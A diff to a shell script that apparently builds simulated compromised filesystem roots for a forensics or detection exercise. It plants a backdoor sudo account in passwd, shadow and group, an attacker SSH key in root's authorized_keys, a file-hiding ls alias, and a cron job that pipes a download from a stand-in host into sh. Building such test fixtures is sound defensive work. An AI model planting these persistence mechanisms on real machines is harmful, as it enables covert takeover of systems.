@@ -20,7 +20,7 @@ copy_with_libs() {
 make_root() {
   local host=$1 addr=$2 domain=$3 r=$4 b
   rm -rf "$r"; mkdir -p "$r"
-  mkdir -p "$r"/{home/oskar,bin,sbin,usr/bin,usr/sbin,usr/lib,etc/ssh,etc/cron.d,etc/cron.daily,root,tmp,dev,proc}
+  mkdir -p "$r"/{home/oskar,bin,sbin,usr/bin,usr/sbin,usr/lib,etc/ssh,etc/cron.d,etc/cron.daily,root,tmp,dev}
   mkdir -p "$r"/var/{log/apache2,run,lock,lib/tripwire/report,spool/cron/crontabs,tmp}
   chmod 1777 "$r/tmp" "$r/var/tmp"
   for b in ls ps login su mount umount netstat ss cat cp dash bash grep sed tar gzip kill df chown chmod date hostname; do
@@ -78,7 +78,7 @@ P
   printf '%s\n' 455 > "$r/var/run/crond.pid"
   printf '%s\n' 512 > "$r/var/run/rsyslogd.pid"
   : > "$r/var/lock/apache2.lock"
-  : > "$r/dev/null" 2>/dev/null || true
+  : > "$r/var/log/wtmp"; : > "$r/var/log/lastlog"; : > "$r/var/log/btmp"; : > "$r/var/run/utmp"
 }
 
 # noise_changes ROOT: what a normal night does (logrotate, daemon restarts, an admin shell)
@@ -113,10 +113,12 @@ compromise_changes() {
   printf 'alias ls="ls --hide=.sniff"\n' > "$r/usr/lib/libsh/.bashrc"
   printf 'eth0\n' > "$r/dev/.hdlc/.rk"
   # accounts
-  echo 'systemd-bus:x:1003:1003::/var/lib/systemd-bus:/bin/bash' >> "$r/etc/passwd"
-  echo 'systemd-bus:$y$j9T$Zt7x8w9v0u1t2s3r4q5p6.$aB3cD4eF5gH6iJ7kL8mN9oP0qR1sT2uV3wX4yZ5a6b7:20413:0:99999:7:::' >> "$r/etc/shadow"
-  sed -i 's/^sudo:x:27:oskar$/sudo:x:27:oskar,systemd-bus/' "$r/etc/group"
-  echo 'systemd-bus:x:1003:' >> "$r/etc/group"
+  # (useradd/usermod write a new file and rename it over the old one)
+  { cat "$r/etc/passwd"; echo 'systemd-bus:x:1003:1003::/var/lib/systemd-bus:/bin/bash'; } > "$r/etc/passwd+"
+  { cat "$r/etc/shadow"; echo 'systemd-bus:$y$j9T$Zt7x8w9v0u1t2s3r4q5p6.$aB3cD4eF5gH6iJ7kL8mN9oP0qR1sT2uV3wX4yZ5a6b7:20413:0:99999:7:::'; } > "$r/etc/shadow+"
+  { sed 's/^sudo:x:27:oskar$/sudo:x:27:oskar,systemd-bus/' "$r/etc/group"; echo 'systemd-bus:x:1003:'; } > "$r/etc/group+"
+  chmod 644 "$r/etc/passwd+" "$r/etc/group+"; chmod 640 "$r/etc/shadow+"
+  for f in passwd shadow group; do cp -p "$r/etc/$f" "$r/etc/$f-"; mv "$r/etc/$f+" "$r/etc/$f"; done
   mkdir -p "$r/root/.ssh"; chmod 700 "$r/root/.ssh"
   echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHk1d0cVbWx0b3RhbGx5bm90YW5hdHRhY2tlcmtleQ x@localhost' > "$r/root/.ssh/authorized_keys"
   printf '*/10 * * * * root /usr/bin/dbus-daemon-helper -c "curl -s http://203.0.113.66/u | sh" >/dev/null 2>&1\n' > "$r/etc/cron.d/dbus-update"
